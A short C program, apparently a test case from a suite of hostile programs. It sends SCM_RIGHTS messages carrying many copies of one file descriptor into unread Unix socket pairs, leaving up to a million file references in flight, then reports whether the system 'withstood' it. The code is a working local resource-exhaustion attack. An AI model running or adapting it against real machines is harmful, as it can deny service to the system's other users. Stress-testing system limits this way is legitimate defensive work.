#include "hostile.h"

/* Sends the same file into sockets that nobody reads from, and returns how often that worked. */
static int hide(int file) {
    int ends[2], hidden = 0;
    char byte = 0, space[CMSG_SPACE(sizeof(int) * 64)] = {0};
    while (hidden < 1000000 && !socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends)) {
        struct iovec part = {&byte, 1};
        struct msghdr message = {0};
        message.msg_iov = &part;
        message.msg_iovlen = 1;
        message.msg_control = space;
        message.msg_controllen = sizeof space;
        struct cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET;
        head->cmsg_type = SCM_RIGHTS;
        head->cmsg_len = CMSG_LEN(sizeof(int) * 64);
        for (int i = 0; i < 64; i++) ((int *)CMSG_DATA(head))[i] = file;
        int before = hidden;
        while (hidden < 1000000 && sendmsg(ends[0], &message, 0) == 1) hidden += 64;
        if (hidden == before) break;
    }
    return hidden;
}

int attack(void) {
    int hidden = hide(open("/dev/null", O_RDONLY));
    if (hidden < 100000) puts("withstood");
    else printf("%d files\n", hidden);
    return 0;
}
